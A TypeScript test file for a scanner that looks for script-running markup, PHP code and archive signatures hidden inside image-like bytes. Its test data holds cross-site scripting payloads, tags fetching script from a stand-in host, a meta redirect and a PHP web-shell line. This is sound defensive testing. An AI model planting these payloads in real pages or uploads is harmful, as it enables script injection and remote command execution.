import { describe, expect, it } from 'vitest';
import { runnableContentIn } from './runnable-content.js';

/** Bytes that look like compressed image data, the same every run (xorshift32). */
function noise(size: number, seed = 0x9e3779b9): Buffer {
  const out = Buffer.alloc(size);
  let x = seed;
  for (let i = 0; i < size; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}
const hidden = (payload: string) => Buffer.concat([noise(4096), Buffer.from(payload, 'latin1'), noise(4096, 7)]);

describe('runnable content hidden in a file', () => {
  it('finds markup that runs script however a tag is written, and says what it found', () => {
    const found: [string, string][] = [
      ['<svg/onload=alert(1)>', 'a tag <svg>'],
      ['<script/src=//evil.example/x.js>', 'a tag <script>'],
      ['<SCRIPT>alert(1)</SCRIPT>', 'a tag <script>'],
      ['<script\fsrc=x>', 'a tag <script>'],
      ['<iframe\tsrcdoc=x>', 'a tag <iframe>'],
      ['<html><body>x', 'a tag <html>'],
      ['<math><mtext>', 'a tag <math>'],
      ['<meta http-equiv=refresh content=0;url=//evil.example>', 'a tag <meta>'],
      ['<object data=x>', 'a tag <object>'],
      ['<embed/src=x>', 'a tag <embed>'],
      ['<base href=//evil.example/>', 'a tag <base>'],
      ['<style>@import "//evil.example"</style>', 'a tag <style>'],
      ['<img src=x onerror=alert(1)>', 'an event handler onerror='],
      ['<IMG SRC=x ONERROR=alert(1)>', 'an event handler onerror='],
      ['<img src=x\nonerror =alert(1)>', 'an event handler onerror='],
      ['<img/onerror=alert(1)>', 'an event handler onerror='],
      ['<b title="x"onclick=alert(1)>', 'an event handler onclick='],
      ["<b title='x'onfocus=alert(1) autofocus>", 'an event handler onfocus='],
      ['<x onpointerover=alert(1)>', 'an event handler onpointerover='],
      ['<details open ontoggle=alert(1)>', 'an event handler ontoggle='],
      ['<a href="javascript:alert(1)">', 'a javascript: link'],
      ['<a href="JaVa\tScRiPt:alert(1)">', 'a javascript: link'],
      ['<a href="java\r\nscript:alert(1)">', 'a javascript: link'],
      ['<a href=vbscript:msgbox(1)>', 'a vbscript: link'],
      ['<!DOCTYPE html>', 'an HTML document type'],
      ['<?php system($_GET[0]); ?>', 'a PHP script'],
      ['%PDF-1.7\n1 0 obj', 'a PDF document'],
      ['PK\x03\x04....PK\x05\x06', 'a ZIP archive'],
      ['Rar!\x1a\x07\x00', 'a RAR archive'],
      ['7z\xbc\xaf\x27\x1c', 'a 7-Zip archive'],
    ];
    for (const [payload, what] of found) expect(runnableContentIn(hidden(payload)), JSON.stringify(payload)).toBe(what);
  });

  it('leaves text that only looks like markup, and one half of a ZIP', () => {
    for (const payload of [
      'A < B > C',
      '<svgs>',
      '<scripts/>',
      '<b>bold</b> and <i>italic</i>',
      '<a href="https://example.org">',
      'one=1',
      'PK\x03\x04 alone',
      'a javascript program',
      'xjavascript:1',
      'on=1 onx=2',
    ])
      expect(runnableContentIn(hidden(payload)), JSON.stringify(payload)).toBeNull();
  });

  it('finds nothing in 16 MB of bytes like compressed image data', () => {
    expect(runnableContentIn(noise(16 * 1024 * 1024))).toBeNull();
  });
});
